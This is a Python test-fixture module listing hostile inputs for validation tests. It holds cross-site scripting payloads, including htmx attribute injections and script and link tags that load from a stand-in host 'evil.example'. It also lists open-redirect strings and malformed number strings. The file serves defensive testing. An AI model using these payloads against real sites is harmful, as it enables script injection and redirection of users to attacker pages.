"""What people send who mean harm, and numbers that only look like numbers."""

_LINES = r"""
<script>alert(1)</script>
"><img src=x onerror=alert(1)>
'><svg onload=alert(1)>
{{7*7}}
{% csrf_token %}
</title><script>
" hx-get="//evil.example" hx-trigger="load
' autofocus onfocus=alert(1) x='
javascript:alert(1)
<hx-partial hx-target='body'>x</hx-partial>
<!--
]]>
&lt;b&gt;
\u003cscript\u003e
<a href=javascript:alert(1)>
${alert(1)}
`alert(1)`
<template hx>
</textarea><svg/onload=alert(1)>
<iframe srcdoc="<script>alert(1)</script>">
<math><mi//xlink:href="data:x,1">
<base href="//evil.example/">
<meta http-equiv=refresh content="0;url=//evil.example">
<form action=//evil.example><button>x
<style>*{display:none}</style>
<link rel=stylesheet href=//evil.example>
%3Cscript%3Ealert(1)%3C/script%3E
<ScRiPt src=//evil.example></sCrIpT>
<b hx-on:click="alert(1)">x</b>
<div data-hx-get="//evil.example">
&#60;script&#62;
<svg><animate onbegin=alert(1)>
<details open ontoggle=alert(1)>
<object data=//evil.example>
"""
XSS = [*_LINES.strip().splitlines(), "\u2028<script>", "\x00<b>"]

REDIRECTS = [
    "//evil.example",
    "/\\evil.example",
    "https:evil.example",
    "https://evil.example/",
    "javascript:alert(1)",
    "\\\\evil.example",
    "http:///evil.example",
    "////evil.example",
    "/\t/evil.example",
    " //evil.example",
    "data:text/html,x",
    "\thttps://evil.example",
    "http://[x",
]

_WORDS = (
    "- -1 +1 0 0.0 00 01 1e3 1E3 1_0 1,0 1. .5 1..2 0x10 NaN nan Infinity -Infinity 1/2 １２ ١ 0.000000001 1e1000000 true None"
)
NOT_NUMBERS = [
    *_WORDS.split(),
    "",
    " ",
    "1 ",
    " 1",
    "1\u00a0",
    "1\n",
    "1\x00",
    "9" * 13,
    "9" * 60,
    "<b>1</b>",
]
